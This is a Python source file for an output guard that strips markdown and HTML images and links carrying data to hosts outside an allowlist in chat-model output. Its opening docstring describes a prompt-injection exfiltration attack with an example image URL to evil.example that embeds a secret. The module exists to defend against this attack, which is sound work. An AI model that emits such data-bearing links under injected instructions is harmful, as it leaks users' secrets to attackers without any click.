"""Exfiltration through links: markdown images/links and HTML images that carry data away.

The attack: injected instructions make the model emit ``![x](https://evil.example/log?d=<secret>)``;
the chat UI fetches the image and the data leaves without a click. So, for hosts that are not on
the tenant's allowlist (the policy's hosts plus the request's ``allowed_hosts``, subdomains
included):

* images are removed whatever their URL (``all_images``, the default), or only when the URL
  carries data, as links are;
* links are removed when the URL carries data: a query value or path segment that looks encoded
  (long base64/hex-ish runs, several percent-escapes) or is long.

Patterns (worst case): ``MD_LINK`` is an optional ``!``, ``[label]`` (<= 512 characters, no
brackets or newline), ``(``, a URL of <= 4,096 characters without whitespace or parentheses, an
optional ``"title"`` and ``)``; every part is one bounded class ending at its own delimiter, so
it is linear and decided as soon as the ``)`` arrives. ``HTML_IMG`` is ``<img`` then <= 512
characters up to ``src=`` and a quoted URL of <= 4,096 characters.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING
from urllib.parse import unquote, urlsplit

from guards.output.base import Hit
from guards.output.rx import IGNORECASE, Match, Pattern, PatternScanner, compile_pattern

if TYPE_CHECKING:
    from guards.output.base import HitAction, StreamContext
    from schemas.output_guard_config import ExfilConfig

__all__ = ["HTML_IMG", "MD_LINK", "ExfilDetector", "carries_data", "host_allowed"]

MD_LINK = (
    r"(?P<bang>!?)\[[^\[\]\n]{0,512}\]\([ \t]{0,4}<?(?P<url>[A-Za-z][A-Za-z0-9+.-]{0,15}:[^\s()<>]{1,4096})>?"
    r"(?:[ \t]{1,4}\"[^\"\n]{0,256}\")?[ \t]{0,4}\)"
)
HTML_IMG = (
    r"<img\b[^<>]{0,512}?\bsrc[ \t]{0,4}=[ \t]{0,4}[\"']?"
    r"(?P<url>[A-Za-z][A-Za-z0-9+.-]{0,15}:[^\s\"'<>]{1,4096})[^<>]{0,512}>"
)

_ENCODED = re.compile(r"[A-Za-z0-9+/_=-]{24,}|(?:%[0-9A-Fa-f]{2}[^%]{0,3}){3,}|[0-9A-Fa-f]{16,}")
_LONG_VALUE = 48


def host_allowed(host: str, allowed: frozenset[str]) -> bool:
    """``host`` equals an allowlisted host or is a subdomain of one."""
    host = host.lower().rstrip(".")
    while True:
        if host in allowed:
            return True
        _, dot, rest = host.partition(".")
        if not dot:
            return False
        host = rest


def carries_data(url: str) -> bool:
    """Whether a URL's query, fragment or path looks like it smuggles data."""
    parts = urlsplit(url)
    pieces = [p for p in parts.path.split("/") if p]
    for chunk in (parts.query, parts.fragment):
        pieces.extend(v for kv in chunk.split("&") for v in kv.split("=", 1)[-1:] if v)
    for piece in pieces:
        if len(piece) >= _LONG_VALUE or _ENCODED.search(piece):
            return True
        decoded = unquote(piece.replace("+", " "))
        if decoded != piece and len(decoded.split()) >= 3:
            return True
    return False


class _LinkRule:
    __slots__ = ("action", "all_images", "allowed", "is_img_tag", "pattern", "starter", "tail")

    def __init__(
        self,
        pattern: Pattern,
        starter: Pattern,
        action: HitAction,
        allowed: frozenset[str],
        all_images: bool,
        img: bool,
    ) -> None:
        self.pattern = pattern
        self.starter = starter
        self.tail = 1
        self.action: HitAction = action
        self.allowed = allowed
        self.all_images = all_images
        self.is_img_tag = img

    def judge(self, m: Match, base: int) -> Hit | None:
        url: str = m.group("url")
        image = self.is_img_tag or bool(m.group("bang"))
        try:
            host = urlsplit(url).hostname or ""
        except ValueError:
            host = ""
        if host and host_allowed(host, self.allowed):
            return None
        if not (image and self.all_images) and not carries_data(url):
            return None
        entity = "image" if image else "link"
        placeholder = "[image removed]" if image else "[link removed]"
        return Hit(base + m.start(), base + m.end(), "exfil", entity, self.action, placeholder)


class ExfilDetector:
    """Immutable exfiltration detector built from ``ExfilConfig``."""

    __slots__ = ("_config", "_img", "_img_start", "_link", "_link_start")

    def __init__(self, config: ExfilConfig) -> None:
        self._config = config
        self._link = compile_pattern(MD_LINK)
        self._link_start = compile_pattern(r"[!\[]")
        self._img = compile_pattern(HTML_IMG, IGNORECASE)
        self._img_start = compile_pattern(r"<")

    def new_scanner(self, ctx: StreamContext) -> PatternScanner:
        """One scanner per stream; the request may widen the allowlist."""
        allowed = frozenset(h.lower() for h in (*self._config.allow_hosts, *ctx.allowed_hosts))
        rules = (
            _LinkRule(self._link, self._link_start, self._config.action, allowed, self._config.all_images, img=False),
            _LinkRule(self._img, self._img_start, self._config.action, allowed, self._config.all_images, img=True),
        )
        return PatternScanner(rules)
